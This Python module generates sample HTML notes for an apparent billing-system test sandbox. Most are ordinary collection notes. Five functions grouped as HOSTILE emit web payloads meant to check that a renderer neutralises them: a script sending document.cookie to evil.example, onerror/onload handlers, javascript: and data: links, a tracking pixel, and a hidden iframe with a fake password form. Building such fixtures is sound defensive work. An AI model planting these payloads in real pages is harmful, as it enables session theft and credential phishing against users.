"""
What people wrote: the content of notes, as HTML.

Most is what an editor in a billing system makes. A few are hostile, as pasted mail can be: whoever shows them must let
none of it run or load. All names in them are escaped, as an editor would.
"""

from __future__ import annotations

from html import escape
from typing import TYPE_CHECKING

from sandbox.world.days import spoken_day
from sandbox.world.people import STAFF

if TYPE_CHECKING:
    from collections.abc import Callable

    from sandbox.world.cases import Case
    from sandbox.world.mixing import Dice

LONG_PARAGRAPHS = 400


def called(dice: Dice, case: Case) -> str:
    who, when = escape(case.account.contact), dice.pick(("this morning", "twice", "after lunch", "from the road"))
    asked = dice.pick(
        (
            "They never got the PDF; sent again.",
            "Asked for two more weeks, which I agreed to.",
            "Says the purchase order was closed; they will raise a new one.",
            "Happy with the work, payment is in Friday's run.",
            "Wants the hours split by site on the next one.",
        )
    )
    return f"<p>Called <b>{who}</b> {when}.</p><p>{asked}</p>"


def promised(dice: Dice, case: Case) -> str:
    day = spoken_day(case.today + dice.between(-40, 20))
    return (
        f"<p>Promise to pay: <strong>{escape(case.currency.written(case.facts.total))}</strong> by <em>{day}</em>.</p>"
    )


def steps(dice: Dice, case: Case) -> str:
    done = dice.sample(
        (
            "Statement sent with all open invoices",
            "Checked against the signed job sheet",
            f"Reference on the transfer was <code>{escape(case.id)}</code>",
            "Credit discussed with the account manager",
            "Address corrected in the account",
        ),
        3,
    )
    items = "".join(f"<li>{item}</li>" for item in done)
    nexts = "<ol><li>Wait for their reply</li><li>Escalate after a week</li></ol>"
    return f"<h4>Where this stands</h4><ul>{items}</ul>{nexts}"


def table(_dice: Dice, case: Case) -> str:
    rows = "".join(
        f"<tr><td>{line.item.id}</td><td>{escape(line.item.name)}</td>"
        f"<td align='right'>{escape(case.currency.written(line.money.net))}</td></tr>"
        for line in case.lines[:6]
    )
    head = "<thead><tr><th>Item</th><th>What for</th><th>Before tax</th></tr></thead>"
    return f"<p>Disputed lines, as agreed by phone:</p><table border='1'>{head}<tbody>{rows}</tbody></table>"


def links(_dice: Dice, case: Case) -> str:
    mail = f"<a href='mailto:{escape(case.account.email)}?subject={case.id}'>{escape(case.account.contact)}</a>"
    portal = f"<a href='https://portal.harrowgate.example/jobs/{case.number + 4000}' target='_blank'>job sheet</a>"
    return f"<p>Mailed {mail} with the {portal}.</p><blockquote>We will check and come back to you.</blockquote>"


def handed_over(dice: Dice, _case: Case) -> str:
    return f"<p>Over to <u>{escape(dice.pick(STAFF[1:]))}</u> while I am on leave. <s>No hurry.</s> Month end!</p>"


def plain(dice: Dice, _case: Case) -> str:
    return dice.pick(
        ("Paid by card over the phone", "see mail", "Dunning level 1 sent", "PO received 5 > 3 days & filed")
    )


def remote_image(_dice: Dice, case: Case) -> str:
    image = f"<img src='https://tracker.example/open.gif?i={case.id}' alt='logo'>"
    return f"<p>Forwarded mail:</p><p>Kind regards<br>{image}</p>"


def script(_dice: Dice, _case: Case) -> str:
    return "<p>Signature below</p><script>fetch('https://evil.example/?c='+document.cookie)</script><p>Regards</p>"


def handler(_dice: Dice, _case: Case) -> str:
    return "<p onclick='alert(1)'>Tap for details</p><img src='x' onerror='alert(1)'><svg onload='alert(1)'></svg>"


def false_links(_dice: Dice, _case: Case) -> str:
    return (
        "<p><a href='javascript:alert(document.domain)'>Remittance</a> "
        "<a href='data:text/html,<script>alert(1)</script>'>Statement</a> <a href='/logout'>here</a></p>"
    )


def framed(_dice: Dice, _case: Case) -> str:
    return (
        "<style>body{display:none}</style><iframe src='https://evil.example/'></iframe>"
        "<form action='https://evil.example/login'><input name='password'><button>Sign in</button></form><p>Thanks</p>"
    )


def very_long(dice: Dice, case: Case) -> str:
    talk = "".join(f"<p>{number}. {called(dice, case)[3:-4]}</p>" for number in range(1, LONG_PARAGRAPHS + 1))
    return f"<h3>Mail thread, pasted</h3>{talk}"


HOSTILE: tuple[Callable[[Dice, Case], str], ...] = (remote_image, script, handler, false_links, framed)
CONTENTS: tuple[tuple[Callable[[Dice, Case], str], int], ...] = (
    (called, 34),
    (promised, 14),
    (steps, 12),
    (table, 10),
    (links, 10),
    (handed_over, 6),
    (plain, 7),
    *((content, 1) for content in HOSTILE),
    (very_long, 2),
)
"""Of a hundred notes, how many of each kind."""
EVERY_KIND = tuple(content for content, _ in CONTENTS)
